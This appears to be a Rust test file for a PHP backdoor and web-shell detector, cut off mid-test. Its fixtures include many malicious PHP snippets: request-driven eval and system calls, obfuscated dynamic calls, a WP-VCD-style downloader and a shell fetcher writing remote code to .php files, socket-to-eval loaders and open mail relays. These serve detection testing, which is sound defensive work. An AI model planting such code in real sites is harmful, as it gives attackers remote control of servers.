    assert!(sinks("<?php $replace = 'preg_replace'; $r = $replace('/a/u', 'b', $s);").is_empty());
    assert!(sinks("<?php $v = eval('return 1 + 2;');").is_empty());
    assert!(sinks("<?php function dec($s) { return base64_decode($s); } echo dec($x);").is_empty());
    assert!(sinks("<?php $n = 1 + 2; $c = 'abcd'; $c++; echo $c[$n];").is_empty());
    assert!(sinks("<?php class P { public $d; } $p = unserialize($_COOKIE['prefs']); echo $p->d;").is_empty());
    assert!(sinks("<?php array_udiff($a, $b, 'strcmp'); usort($list, [$this, 'cmp']);").is_empty());
}

#[test]
fn ordinary_code_is_quiet() {
    assert!(
        sinks("<?php function f($a) { return call_user_func($a, 1); } $x = $_GET['p']; echo esc_html($x);").is_empty()
    );
    assert!(sinks("<?php require __DIR__ . '/vendor/autoload.php'; $cb = array($this, 'run'); $cb();").is_empty());
    assert!(sinks("<?php $r = preg_replace('/\\s+/e', ' ', $s);").iter().all(|(w, _)| *w == Why::PregReplaceEval));
    assert!(sinks("<?php $r = preg_replace('/\\s+/i', ' ', $s); assert($x > 0);").is_empty());
    assert!(sinks("<?php foreach ($_POST as $k => $v) { update_option($k, sanitize_text_field($v)); }").is_empty());
}

#[test]
fn an_applications_includes_and_dispatchers_are_risks_not_backdoors() {
    // The visitor picks a file inside the application's own folder, or reads its settings array.
    let low = [(Why::CodeFromInput, Danger::Low)];
    assert_eq!(sinks("<?php include $base . 'pages/' . $_GET['p'] . '.php';"), low);
    assert_eq!(sinks("<?php $cfg['dir'] = $_GET['d']; $cfg['path'] = $root . 'app/'; require $cfg['path'];"), low);
    assert_eq!(sinks("<?php $f = realpath(Stub::$temp . '/' . $_SERVER['PATH_INFO']); include $f;"), low);
    // The visitor names the file whole: a backdoor.
    let critical = [(Why::CodeFromInput, Danger::Critical)];
    assert_eq!(sinks("<?php include $_GET['p'] . '.php';"), critical);
    assert_eq!(sinks("<?php $p = $_REQUEST['f']; require_once $p;"), critical);
    // A method of the application's object, picked by a JSON-RPC request: not any function.
    let rpc = "<?php $req = json_decode(file_get_contents('php://input'), true); \
               $out = call_user_func_array(array($service, $req['method']), $req['params']);";
    assert!(sinks(rpc).is_empty(), "{:?}", sinks(rpc));
    assert!(sinks("<?php call_user_func_array([$this, $_POST['action']], []);").is_empty());
    let any = "<?php call_user_func_array(array($_GET['c'], $_GET['m']), $_GET['a']);";
    assert_eq!(sinks(any), [(Why::DynamicCallFromInput, Danger::Critical)]);
    assert_eq!(sinks("<?php call_user_func($_GET['f'], $_GET['a']);"), [(Why::DynamicCallFromInput, Danger::Critical)]);
}

#[test]
fn a_download_written_by_curl_into_a_file_then_included_is_code_from_the_internet() {
    // fresh63's malwareerror.php: curl writes the answer into a handle opened on a path, and
    // the path is included.
    let src = "<?php $url = 'https://raw.example.net/x/shell.php'; $save = __DIR__ . '/text.php';\n\
               $ch = curl_init($url); $fp = fopen($save, 'w+'); curl_setopt($ch, CURLOPT_FILE, $fp);\n\
               curl_exec($ch); curl_close($ch); fclose($fp); include $save;";
    assert_eq!(sinks(src), [(Why::CodeFromInternet, Danger::Critical)]);
    // A picture downloaded the same way and never included: nothing runs.
    let picture = src.replace("include $save;", "echo '<img src=\"text.jpg\">';");
    assert!(sinks(&picture).is_empty(), "{:?}", sinks(&picture));
}

#[test]
fn code_kept_compressed_or_in_a_zip_archive_and_run_is_found() {
    // fresh63's Mentor.php and auth2.php.
    assert_eq!(sinks("<?php include 'compress.zlib://mentor.gz';"), [(Why::IncludeOfData, Danger::High)]);
    let zip = "<?php $zip = new ZipArchive; if ($zip->open('auth2.zip') === TRUE) { $s = '';\n\
               for ($i = 0; $i < $zip->numFiles; $i++) { $s .= $zip->getFromIndex($i); } eval('?>' . $s); }";
    assert_eq!(sinks(zip), [(Why::EvalOfDecoded, Danger::Critical)]);
    // A member read and shown (a spreadsheet's sheet): nothing runs.
    let shown = "<?php $zip = new ZipArchive; $zip->open($f); $xml = $zip->getFromName('xl/workbook.xml'); \
                 echo htmlspecialchars($xml);";
    assert!(sinks(shown).is_empty(), "{:?}", sinks(shown));
}

#[test]
fn another_sites_text_saved_as_a_php_file_is_downloaded_code_whatever_the_file_checks() {
    // WP-VCD's header in a theme's functions.php: code.php fetched and saved as wp-tmp.php.
    // The theme checks its users elsewhere (`current_user_can`), which makes an upload handler
    // the application's, not this.
    let vcd = "<?php if ($c = @file_get_contents('http://www.vcd-host.example/code.php')) { \
               @file_put_contents(ABSPATH . 'wp-includes/wp-tmp.php', $c); } \
               function theme_opts() { if (!current_user_can('manage_options')) return; }";
    assert_eq!(sinks(vcd), [(Why::CodeFromInternet, Danger::High)]);
    // A page or a feed fetched and cached as data is not code.
    let cache = "<?php $f = file_get_contents('https://feeds.example/news.xml'); file_put_contents(__DIR__ . '/cache/news.xml', $f);";
    assert!(sinks(cache).is_empty(), "{:?}", sinks(cache));
    // fresh73's shell summoner: the file opened for writing under a PHP name, then written
    // (the name is kept with the handle); the feed's cache written so stays data.
    let summon = "<?php $src = 'https://raw.githubusercontent.example/u/r/master/s.php'; $got = file_get_contents($src); \
                  $h = fopen($_SERVER['DOCUMENT_ROOT'] . '/0byte.php', 'w'); fwrite($h, $got);";
    assert_eq!(sinks(summon), [(Why::CodeFromInternet, Danger::High)]);
    let feed = "<?php $f = file_get_contents('https://feeds.example/news.xml'); $h = fopen(__DIR__ . '/news.xml', 'w'); fwrite($h, $f);";
    assert!(sinks(feed).iter().all(|(_, d)| *d < Danger::Medium), "{:?}", sinks(feed));
    // A log appended to, and an installer writing the settings it was sent line by line.
    let log = summon.replace("'w'", "'a'");
    assert!(sinks(&log).iter().all(|(_, d)| *d < Danger::Medium), "{:?}", sinks(&log));
    let installer = "<?php $lines = file(__DIR__ . '/wp-config-sample.php'); $lines[] = \"define('DB_PASSWORD', '{$_POST['pwd']}');\"; \
                     $h = fopen(__DIR__ . '/wp-config.php', 'w'); foreach ($lines as $line) { fwrite($h, $line); }";
    assert!(sinks(installer).iter().all(|(_, d)| *d < Danger::Medium), "{:?}", sinks(installer));
    let read = summon.replace("'w'", "'r'");
    assert!(sinks(&read).iter().all(|(_, d)| *d < Danger::Medium), "{:?}", sinks(&read));
}

#[test]
fn a_condition_on_the_request_that_picks_one_of_two_files_is_not_the_request() {
    // Discuz!'s `include template($_GET['from'] == 'preview' ? 'a' : 'b')`: the visitor only
    // chooses between the application's two literals.
    let pick = "<?php include template($_GET['from'] == 'preview' ? 'forum/a_node' : 'forum/b_node');";
    assert!(sinks(pick).is_empty(), "{:?}", sinks(pick));
    assert!(sinks("<?php $page = isset($_GET['full']) ? 'full.php' : 'short.php'; include $page;").is_empty());
    // A branch that is the request still is; so is the condition itself (`?:`).
    assert!(!sinks("<?php $p = isset($_GET['p']) ? $_GET['p'] : 'home.php'; include $p;").is_empty());
    let critical = [(Why::CodeFromInput, Danger::Critical)];
    assert_eq!(sinks("<?php $p = $_GET['p'] ?: 'home.php'; include $p;"), critical);
    assert_eq!(sinks("<?php eval($ok ? $_POST['c'] : '');"), critical);
}

#[test]
fn saving_an_image_or_numbers_is_not_dropping_a_script() {
    // Saved whole under a data file's name the visitor did not choose.
    assert!(sinks("<?php move_uploaded_file($_FILES['f']['tmp_name'], 'cache/import.csv');").is_empty());
    assert!(sinks("<?php file_put_contents('avatars/' . $uid . '.png', base64_decode($_POST['img']));").is_empty());
    assert!(sinks("<?php file_put_contents(\"{$dir}/head/{$id}.jpg\", base64_decode($_POST['img']));").is_empty());
    // A binary header made of numbers is not decoded text.
    assert!(sinks("<?php $fp = fopen($out, 'wb'); fwrite($fp, pack('N', $size));").is_empty());
    // The near misses: a name the visitor picks, a script's name, request data appended to an
    // image (a collector's hiding place), character codes packed into text.
    assert_eq!(
        sinks("<?php move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);"),
        [(Why::UploadDropper, Danger::High)]
    );
    assert_eq!(
        sinks("<?php file_put_contents($_GET['n'] . '.png', $_POST['d']);"),
        [(Why::UploadDropper, Danger::High)]
    );
    assert_eq!(
        sinks("<?php move_uploaded_file($_FILES['f']['tmp_name'], 'up/x.php');"),
        [(Why::UploadDropper, Danger::High)]
    );
    let hidden = "<?php file_put_contents('media/p/1.jpg', base64_encode(serialize($_POST)), FILE_APPEND);";
    assert_eq!(sinks(hidden), [(Why::UploadDropper, Danger::Low)]);
    assert_eq!(sinks("<?php $fp = fopen($out, 'w'); fwrite($fp, pack('C*', $a, $b));").len(), 1);
}

#[test]
fn a_command_line_tool_reads_its_operators_arguments() {
    let usage = "<?php if ($argc < 2) { echo 'usage'; exit(1); } $c = $_SERVER['argv'][1]; exec('git log ' . $c);";
    assert!(sinks(usage).is_empty(), "{:?}", sinks(usage));
    let framework =
        "<?php if (!$this->cli) { die('Must be run from the command line.'); } exec('dump > ' . $_SERVER['argv'][2]);";
    assert!(sinks(framework).is_empty(), "{:?}", sinks(framework));
    let update = "<?php if ('cli' !== PHP_SAPI) { exit; } file_put_contents($out, file_get_contents('https://example.org/types'));";
    assert!(sinks(update).is_empty(), "{:?}", sinks(update));
    let test = "<?php class CoverageTest extends \\PHPUnit\\Framework\\TestCase { function testRun() { \
                $bin = $_SERVER['argv'][0]; exec(\"php $bin --coverage\", $out); } }";
    assert!(sinks(test).is_empty(), "{:?}", sinks(test));
    // Without a command-line check, the query string reaches `argv` (`register_argc_argv`).
    assert_eq!(sinks("<?php exec('x ' . $_SERVER['argv'][2]);"), [(Why::ShellFromInput, Danger::Critical)]);
}

#[test]
fn a_querys_parameters_are_not_a_callback() {
    let q = "<?php $t = $_GET['token']; $rows = $db->fetchAll('SELECT uri FROM r WHERE token = ?', [$t, $ua]);";
    assert!(sinks(q).is_empty(), "{:?}", sinks(q));
    let f = "<?php $rows = $q->fetchAll(PDO::FETCH_FUNC, $_GET['f']);";
    assert_eq!(sinks(f), [(Why::DynamicCallFromInput, Danger::Critical)]);
}

#[test]
fn numbers_are_read_as_php_writes_them() {
    use super::fold::parse_num;
    assert_eq!(parse_num(b"94"), Some(94));
    assert_eq!(parse_num(b"1_000"), Some(1000));
    assert_eq!(parse_num(b"0x1F"), Some(31));
    assert_eq!(parse_num(b"0X1_f"), Some(31));
    assert_eq!(parse_num(b"017"), Some(15));
    assert_eq!(parse_num(b"-5"), Some(-5));
    assert_eq!(parse_num(b"09"), None);
    assert_eq!(parse_num(b"abc"), None);
    assert_eq!(parse_num(b"\xff1"), None);
    // The plain decimal path: zero, the longest it adds up, and one digit more (parsed).
    assert_eq!(parse_num(b"0"), Some(0));
    assert_eq!(parse_num(b"999999999999999999"), Some(999_999_999_999_999_999));
    assert_eq!(parse_num(b"9223372036854775807"), Some(i64::MAX));
    assert_eq!(parse_num(b"9223372036854775808"), None);
}

#[test]
fn the_keyed_name_hash_tells_names_apart() {
    use std::hash::BuildHasher;
    let k = names::Keyed::default();
    assert_eq!(k.hash_one((0u32, b"abc".as_slice())), k.hash_one((0u32, b"abc".as_slice())));
    assert_ne!(k.hash_one(b"a".as_slice()), k.hash_one(b"a\0".as_slice()));
    assert_ne!(k.hash_one((0u32, b"x".as_slice())), k.hash_one((1u32, b"x".as_slice())));
    // Names that differ in one byte anywhere spread over the table's buckets (low bits).
    let mut buckets = std::collections::HashSet::new();
    for n in 0..4096u32 {
        let name = format!("v{n:08}_long_variable_name");
        buckets.insert(k.hash_one((0u32, name.as_bytes())) & 4095);
    }
    assert!(buckets.len() > 2000, "{} buckets of 4096", buckets.len());
}

#[test]
fn indexing_a_long_alphabet_does_not_copy_it_per_read() {
    // An obfuscator's alphabet (2,000 letters) indexed 18,000 times: each read takes one
    // letter, never the whole text (that was 2,000 bytes copied per read, per pass).
    let alphabet: String = (0..2000).map(|k| char::from(b'a' + (k * 7 % 26) as u8)).collect();
    let mut src = format!("<?php $s = '{alphabet}';\n");
    for k in 0..3000 {
        let reads: Vec<String> = (0..6).map(|r| format!("$s[{}]", (k * 31 + r * 17) % 2000)).collect();
        src.push_str(&format!("$v{k} = {};\n", reads.join(".")));
    }
    src.push_str("$s{0}; eval($v1($_POST['x']));\n");
    TEXT_COPIED.with(|c| c.set(0));
    let found = sinks(&src);
    let copied = TEXT_COPIED.with(|c| c.get());
    assert!(copied < src.len(), "{copied} bytes of text copied for a {} byte file", src.len());
    assert!(!found.is_empty());
    // The letters are still read: a name spelt from the alphabet is found.
    let s = "<?php $a = 'xyzsystem'; $f = $a[3].$a[4].$a[5].$a{6}.$a[7].$a[8]; $f($_GET['c']);";
    assert!(sinks(s).contains(&(Why::ShellFromInput, Danger::Critical)), "{:?}", sinks(s));
}

#[test]
fn a_variable_marked_before_it_is_read_needs_no_second_pass() {
    let passes = |src: &str| {
        PASSES.with(|c| c.set(0));
        let found = sinks(src);
        (PASSES.with(|c| c.get()), found)
    };
    // Given request data, then read: the first pass already knows (assigning is not reading).
    let (n, found) = passes("<?php $c = $_POST['c']; $d = $c . ' -la'; $n = 1; $n .= 'x'; echo $d;");
    assert_eq!((n, found), (1, vec![]));
    // Read before it is given request data (a loop): read again in a second pass.
    let (n, found) = passes("<?php while (1) { echo $d; $d = $_POST['c']; $e = $d; }");
    assert_eq!((n, found), (2, vec![]));
    let (n, found) = passes("<?php while (1) { include $d; $d = $_GET['c']; }");
    assert_eq!((n, found), (2, vec![(Why::CodeFromInput, Danger::Critical)]));
}

#[test]
fn a_later_assignment_reaches_an_earlier_use_in_a_second_pass() {
    // In a loop, `system` sees the request data given to `$d` after it only in a second pass.
    // (A file the cheap shapes already found critical is not analysed at all: `detect`.)
    let src = "<?php while (1) { system($d); $d = $_POST['c']; }";
    let t = tokenize_for_test(src.as_bytes(), 1 << 20);
    PASSES.with(|c| c.set(0));
    let found = analyze(&t, Script { command_line: false });
    assert_eq!(
        (PASSES.with(|c| c.get()), found.iter().map(|s| s.why).collect::<Vec<_>>()),
        (2, vec![Why::ShellFromInput])
    );
}

#[test]
fn a_file_of_more_than_twenty_thousand_tokens_costs_one_pass() {
    // The worst files' bar: a second pass over a database manager of 300 KB cost a fifth of
    // its time. Such a file is read once; what only a later assignment would reach is not.
    let late = "while (1) { system($d); $d = $_POST['c']; }";
    let count = |padding: usize| {
        let src = format!("<?php {late} {}", "$x = 1; ".repeat(padding));
        let t = tokenize_for_test(src.as_bytes(), 1 << 22);
        PASSES.with(|c| c.set(0));
        let found = analyze(&t, Script { command_line: false });
        (t.len() > ONE_PASS_TOKENS, PASSES.with(|c| c.get()), found.iter().map(|s| s.why).collect::<Vec<_>>())
    };
    assert_eq!(count(4_500), (false, 2, vec![Why::ShellFromInput]));
    assert_eq!(count(5_500), (true, 1, vec![]));
}

#[test]
fn a_hidden_file_of_another_type_included_by_its_path_is_loaded_data() {
    // The loader put in front of a site's files (hex escapes in the path, `@` to stay quiet).
    let stub = "<?php\n/*bfe2e*/\n@include (\"/home/u/public_html/wp-\\x69ncludes/blocks/missing/.d093297f.ot\\x69\");\n/*bfe2e*/\n";
    assert_eq!(sinks(stub), [(Why::IncludeOfData, Danger::High)]);
    assert_eq!(
        sinks("<?php include '/home/u/public_html/wp-content/cache/.bd14c50c.ott';"),
        [(Why::IncludeOfData, Danger::High)]
    );
    // An application's own files, hidden or not, by a PHP name; and a relative parent path.
    assert!(
        sinks("<?php include __DIR__ . '/.config.php'; require '../settings.inc'; include './lib/.theme.module';")
            .is_empty()
    );
    assert!(sinks("<?php include dirname(__FILE__) . '/..';").is_empty());
}

/// A large file's second pass (more than `FIXPOINT_TOKENS`): `code`, then enough plain
/// statements after it.
fn large(code: &str) -> String {
    format!("{code}\n<?php\n{}", "$pad = 0;\n".repeat(FIXPOINT_TOKENS / 4 + 10))
}

/// The findings of `src` and how many bodies its second pass took from the first, with the
/// reuse on or off.
fn reading(src: &str, reuse: bool) -> (Vec<(Why, Danger)>, usize) {
    reuse::NO_REUSE.with(|c| c.set(!reuse));
    reuse::REUSED.with(|c| c.set(0));
    let found = sinks(src);
    reuse::NO_REUSE.with(|c| c.set(false));
    (found, reuse::REUSED.with(|c| c.get()))
}

#[test]
fn a_large_files_second_pass_reads_again_only_the_functions_something_changed_for() {
    // `late` reads a global given request data after it: read again, and the command found.
    // `helper` touches only its own variables: the first pass's reading is taken, with its
    // finding (a hidden name called) kept.
    let src = large(
        "<?php function helper($a) { $f = base64_decode('c3lzdGVt'); $f('ls'); return strtolower($a) . 'y'; }\n\
         function late() { global $cmd; system($cmd); }\n$cmd = $_GET['c'];",
    );
    let (found, reused) = reading(&src, true);
    assert_eq!(found, [(Why::ShellFromInput, Danger::Critical), (Why::HiddenFunctionName, Danger::High)]);
    assert_eq!(reused, 1);
    assert_eq!(reading(&src, false), (found, 0));
    // A function that calls one whose summary is learnt later is read again: `caller` hands
    // request data to `runit`, known to run its parameter only once it is read.
    let src = large(
        "<?php function caller() { runit($_GET['x']); }\nfunction runit($c) { system($c); }\n\
         function other($o) { $o = trim($o); return $o; }\n$late = 1; echo $late; $late = $_POST['p'];",
    );
    let (found, reused) = reading(&src, true);
    assert!(found.contains(&(Why::ShellFromInput, Danger::Critical)), "{found:?}");
    // (`runit` asks for no summary and is taken; `other` too; `caller` is read again.)
    assert_eq!(reused, 2);
    assert_eq!(reading(&src, false).0, found);
    // A function whose own variable is given request data after it is read (a loop) is read
    // again.
    let src = large("<?php function looped() { while (1) { system($d); $d = $_POST['c']; } }");
    assert_eq!(reading(&src, true), (vec![(Why::ShellFromInput, Danger::Critical)], 0));
}

#[test]
fn reused_bodies_give_the_same_findings_as_reading_them_again() {
    // Every own-written fixture, made a large file: the findings with and without the reuse.
    let root = concat!(env!("CARGO_MANIFEST_DIR"), "/../tests/fixtures/sweep");
    let mut large_files = 0;
    for set in ["malicious", "clean", "heldout"] {
        let Ok(entries) = std::fs::read_dir(format!("{root}/{set}")) else { continue };
        for e in entries.flatten() {
            let Ok(text) = std::fs::read_to_string(e.path()) else { continue };
            let src = large(&text);
            let (with, _) = reading(&src, true);
            let (without, _) = reading(&src, false);
            assert_eq!(with, without, "{}", e.path().display());
            large_files += 1;
        }
    }
    assert!(large_files > 250, "{large_files} fixtures read");
}

#[test]
fn a_cookie_passed_back_through_tiny_functions_defined_in_any_order_reaches_eval() {
    // Each function is defined before the one it calls: every pass carries a summary one
    // function further back (the first pass learns only `c`'s, the last reaches `run`).
    let src = "<?php function run() { r(a()); } function a() { return b(); } function b() { return d(); } \
               function d() { return c('k'); } function r($x) { eval($x); } \
               function c($k) { return $_COOKIE[$k]; } run();";
    PASSES.with(|c| c.set(0));
    let found = sinks(src);
    assert!(found.contains(&(Why::CodeFromInput, Danger::Critical)), "{found:?}");
    let passes = PASSES.with(|c| c.get());
    assert!((3..=5).contains(&passes), "{passes} passes");
}

#[test]
fn the_quick_name_tests_agree_with_the_lists() {
    for n in SHELL.iter().chain(CODE) {
        assert!(is_code_or_shell(n.as_bytes()), "{n}");
        assert!(!is_include(n.as_bytes()), "{n}");
    }
    for n in INCLUDES {
        assert!(is_include(n.as_bytes()), "{n}");
        assert!(!is_code_or_shell(n.as_bytes()), "{n}");
    }
    for n in ["", "echo", "systems", "sys", "includes", "evaluate", "r", "x_system"] {
        assert!(!is_code_or_shell(n.as_bytes()) && !is_include(n.as_bytes()), "{n}");
    }
}

#[test]
fn the_quick_class_test_agrees_with_the_lists() {
    for (n, c) in CLASSES.iter() {
        assert_eq!(class(n), *c, "{}", String::from_utf8_lossy(n));
    }
    for n in ["", "h", "lang", "base64_decod", "base64_decodex", "systemx", "x"] {
        assert_eq!(class(n.as_bytes()), 0, "{n}");
    }
}

#[test]
fn names_recased_or_padded_are_resolved() {
    for s in [
        "<?php $x = ucfirst('assert'); @$x($_POST['d']);",
        "<?php $x = strtoupper('assert'); $x($_POST['d']);",
        "<?php $x = trim(\"\\x0bassert \"); call_user_func($x, $_POST['d']);",
        "<?php $x = rtrim('assert hello', ' hello'); $x($_POST['d']);",
        "<?php $x = substr_replace('asxxx', 'sert', 2); $x($_POST['d']);",
    ] {
        assert!(sinks(s).contains(&(Why::CodeFromInput, Danger::Critical)), "{s}: {:?}", sinks(s));
    }
    // Text work on other values keeps no name.
    assert!(sinks("<?php $t = trim($_POST['name']); echo strtoupper($t);").is_empty());
    assert!(sinks("<?php $f = ucfirst('strtolower'); echo $f($_GET['q']);").is_empty());
}

#[test]
fn a_mail_relay_through_the_files_own_helper_is_found() {
    // fresh36's `wpmail.php`: recipient and sender posted, handed to a helper that builds the
    // headers behind a fixed `From: `.
    let helper = "function send_email($from, $to, $subject, $message) { $h = \"From: \" . $from . \"\\r\\n\"; $h .= \"MIME-Version: 1.0\\r\\n\"; mail($to, $subject, $message, $h); }";
    let relay = format!(
        "<?php {helper}\nif (isset($_POST['message'])) {{ send_email($_POST['from'], $_POST['to'], $_POST['subject'], $_POST['message']); }}"
    );
    assert_eq!(sinks(&relay), [(Why::MailFromInput, Danger::High)]);
    // Called before it is defined, too.
    let later = format!("<?php send_email($_POST['from'], $_POST['to'], 's', 'm');\n{helper}");
    assert_eq!(sinks(&later), [(Why::MailFromInput, Danger::High)]);
    // Directly, with the sender after a fixed head.
    let direct = "<?php mail($_POST['to'], $_POST['s'], $_POST['m'], 'From: ' . $_POST['from']);";
    assert_eq!(sinks(direct), [(Why::MailFromInput, Danger::High)]);
    // An open relay: recipient, subject and text posted, the sender fixed (fresh146's
    // random-named `qkOtHbNHi5.php` reads each behind `isset(…) ?`, which still counts as the
    // site's own head: not found there).
    let open = "<?php $r = $_POST['to']; $s = $_POST['subject'];\n\
                $m = $_POST['msg']; mail($r, $s, $m, 'From:' . 'localhost');";
    assert_eq!(sinks(open), [(Why::MailFromInput, Danger::High)]);
    // A "tell a friend" form: the friend's address, the site's own subject or words around theirs.
    for own in [
        "<?php mail($_POST['friend'], 'A page for you', $_POST['note'], 'From: site@example.org');",
        "<?php mail($_POST['friend'], $_POST['subject'], 'Your friend wrote: ' . $_POST['note']);",
    ] {
        assert!(sinks(own).is_empty(), "{own}: {:?}", sinks(own));
    }
    // A contact form: the site's own recipient, the visitor's address as the sender.
    let contact = format!(
        "<?php {helper}\nsend_email($_POST['email'], 'owner@example.org', $_POST['subject'], $_POST['message']);"
    );
    assert!(sinks(&contact).is_empty(), "{:?}", sinks(&contact));
    // A reply to the visitor from the site's own address.
    let reply = format!("<?php {helper}\nsend_email('shop@example.org', $_POST['email'], 'Thanks', 'We got it');");
    assert!(sinks(&reply).is_empty(), "{:?}", sinks(&reply));
}

#[test]
fn other_mail_functions_sent_by_the_visitor() {
    let s = "<?php imap_mail(base64_decode($_POST['t']), $_POST['s'], $_POST['b'], base64_decode($_POST['h']));";
    assert_eq!(sinks(s), [(Why::MailFromInput, Danger::High)]);
    let s = "<?php mb_send_mail($_POST['t'], $_POST['s'], $_POST['b'], $_POST['h']);";
    assert_eq!(sinks(s), [(Why::MailFromInput, Danger::High)]);
    // A contact form: the site's own address and headers.
    assert!(
        sinks("<?php imap_mail('owner@example.org', $_POST['s'], $_POST['b'], 'From: site@example.org');").is_empty()
    );
}

#[test]
fn code_read_from_a_socket_is_code_from_the_internet() {
    let s = "<?php $s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP); socket_connect($s, $h, 4444); $n = socket_read($s, 4); eval(socket_read($s, $n));";
    assert!(sinks(s).iter().any(|(w, _)| *w == Why::CodeFromInternet), "{:?}", sinks(s));
    // Read and printed.
    assert!(sinks("<?php $s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP); echo socket_read($s, 1024);").is_empty());
}

#[test]
fn variables_named_by_values_are_found_and_the_token_reads_stay_bounded() {
    // A few: found by reading the tokens.
    let s = "<?php $n = 'cmd'; $$n = $_GET['c']; system($cmd);";
    assert!(sinks(s).contains(&(Why::ShellFromInput, Danger::Critical)), "{:?}", sinks(s));
    // Thousands: at most `VAR_NAME_SCANS` reads of the tokens, then one set of the names.
    let mut src = String::from("<?php $q = $_GET['q'];\n");
    for k in 0..3000 {
        src.push_str(&format!("$v{k} = 1; $n{k} = 'v{k}'; $$n{k} = $q; ${{'v{k}'}} = $q;\n"));
    }
    src.push_str("$m = 'v2999'; eval($$m);\n");
    NAME_SCANS.with(|c| c.set(0));
    let found = sinks(&src);
    let scans = NAME_SCANS.with(|c| c.get());
    assert!(scans <= VAR_NAME_SCANS, "{scans} reads of all the tokens");
    assert!(found.contains(&(Why::CodeFromInput, Danger::Critical)), "{found:?}");
}

#[test]
fn the_command_line_check_reads_the_tokens_only_when_a_finding_asks() {
    let reads = |src: &str| {
        CLI_READS.with(|c| c.set(0));
        let found = sinks(src);
        (CLI_READS.with(|c| c.get()), found)
    };
    // A command from the request is a backdoor wherever it runs: the check is not made.
    let (n, found) = reads("<?php if (PHP_SAPI == 'cli') {} $c = $_POST['c']; system($c);");
    assert_eq!((n, found), (0, vec![(Why::ShellFromInput, Danger::Critical)]));
    // Request data written to a file: a command-line tool writes what its operator asks, so the
    // tokens are read once (also over two passes).
    let (n, found) = reads("<?php file_put_contents($_GET['f'], $_POST['d']);");
    assert_eq!((n, found), (1, vec![(Why::UploadDropper, Danger::High)]));
    let (n, found) = reads("<?php while (1) { file_put_contents($f, $_POST['d']); $f = $_GET['f']; }");
    assert_eq!((n, found), (1, vec![(Why::UploadDropper, Danger::High)]));
    let (n, found) = reads("<?php if (php_sapi_name() !== 'cli') exit; file_put_contents($_GET['f'], $_POST['d']);");
    assert_eq!((n, found), (1, vec![]));
}

#[test]
fn a_table_of_functions_cut_from_a_cookie_is_a_backdoor() {
    // The names arrive in pieces of one cookie, a few characters apart, and are put together
    // in a loop: no name is ever known, three of them are called.
    let dropper = "<?php $c = $_COOKIE; $k = 0; $n = 4; $p = array(); $p[$k] = '';
        while ($n) { $p[$k] .= $c[21][$n]; if (!$c[21][$n + 1]) { if (!$c[21][$n + 2]) break; $k++; $p[$k] = ''; $n++; } $n = $n + 4 + 1; }
        $f = $p[0]() . $p[11]; if (!$p[5]($f)) { $h = $p[2]($f, $p[7]); $p[9]($h, $p[3]); } include($f);";
    assert!(sinks(dropper).contains(&(Why::DynamicCallFromInput, Danger::Critical)), "{:?}", sinks(dropper));
    // An application keeps request data and its own handlers in one array: two calls.
    let app = "<?php $ctx = array(); $ctx['q'] = $_GET['q']; $ctx['fmt'] = get_formatter();
        $ctx['log'] = get_logger(); echo $ctx['fmt']($ctx['q']); $ctx['log']('done');";
    assert!(!sinks(app).iter().any(|(w, _)| *w == Why::DynamicCallFromInput), "{:?}", sinks(app));
}

#[test]
fn every_request_field_copied_into_a_variable_of_its_name_reaches_eval() {
    // `register_globals` by hand: each field becomes a variable the visitor names.
    let s = "<?php foreach ($_POST as $k => $v) { $$k = $v; } eval($code);";
    assert_eq!(sinks(s), [(Why::CodeFromInput, Danger::Critical)]);
    let s = "<?php foreach ($_COOKIE as $key => $val) ${$key} = trim($val); function run($c) { return eval($c); } run($id);";
    assert!(sinks(s).contains(&(Why::CodeFromInput, Danger::Critical)), "{:?}", sinks(s));
    // Near-misses: the superglobals themselves put back from a filter (Adminer's bootstrap),
    // the variables a file already has exported to the global scope (wp-cli), an element
    // of a variable variable, and a loop over the request that sets nothing by name.
    let s = "<?php foreach (array('_GET', '_POST') as $val) { $unsafe = filter_input_array(constant(\"INPUT$val\"), FILTER_UNSAFE_RAW); if ($unsafe) { $$val = $unsafe; } } include \"lang/$LANG.inc.php\";";
    assert_eq!(sinks(s), []);
    let s = "<?php foreach (get_defined_vars() as $key => $var) { global ${$key}; ${$key} = $var; } spl_autoload_register($autoloader, true, true);";
    assert_eq!(sinks(s), []);
    let s = "<?php foreach ($_POST as $k => $v) { $$k['seen'] = $v; } eval($code);";
    assert_eq!(sinks(s), [(Why::EvalOfVariable, Danger::Low)]);
    let s = "<?php foreach ($_POST as $k => $v) { echo htmlspecialchars($k); } eval($code);";
    assert_eq!(sinks(s), [(Why::EvalOfVariable, Danger::Low)]);
}

#[test]
fn a_data_file_beside_the_script_included_by_its_folder_is_loaded_data() {
    // A fake plugin's loader: its code kept in a text file next to it.
    let s = "<?php $f = __DIR__ . '/ilucyv.txt'; if (file_exists($f)) { include($f); }";
    assert_eq!(sinks(s), [(Why::IncludeOfData, Danger::High)]);
    assert_eq!(sinks("<?php include(__DIR__ . '/cache/logo.png');"), [(Why::IncludeOfData, Danger::High)]);
    // The application's own code beside it, and a generator's temporary copy of its code.
    assert!(sinks("<?php require __DIR__ . '/vendor/autoload.php'; include __DIR__ . '/.config.php';").is_empty());
    assert!(sinks("<?php $f = __DIR__ . '/Strategy.php.tmp'; require $f; unlink($f);").is_empty());
}

#[test]
fn a_global_named_by_decoded_text_is_the_requests() {
    // `$GLOBALS[xor(urldecode('%16%08…'), $k)]` is `$_COOKIE`: a path from it is included.
    let s = "<?php function d($s, $k) { $u = 'url' . 'decode'; $h = $u($s); return $h ^ substr($k, 0, strlen($h)); } \
             $c = $GLOBALS[d('%16%08%27%2Fv%1C', 'INnc3OzTZo')]; if (isset($c['k'])) { include($c['k']['p']); }";
    assert!(sinks(s).contains(&(Why::CodeFromInput, Danger::Critical)), "{:?}", sinks(s));
    // A global named by a plain variable (MediaWiki's stub objects) is not.
    let s = "<?php class S { function call($name, $args) { return call_user_func_array([$GLOBALS[$this->global], $name], $args); } }";
    assert!(sinks(s).is_empty(), "{:?}", sinks(s));
}

#[test]
fn a_global_named_by_a_piece_cut_from_a_constant_is_the_requests() {
    // fresh15's fake core class: `$GLOBALS[substr($this->data, 6)]` is `$_COOKIE` (the first six
    // bytes of the class's constant are indexes), and the cookie's fields are called in a chain.
    let s = "<?php class _Wp_Info { const D = \"\\x2D\\x4F\\x29\\x1E\\x2E\\x18_COOKIE\"; private $data; \
             function __construct($d = null) { $this->data = is_null($d) ? _Wp_Info::D : $d; $this->run(); } \
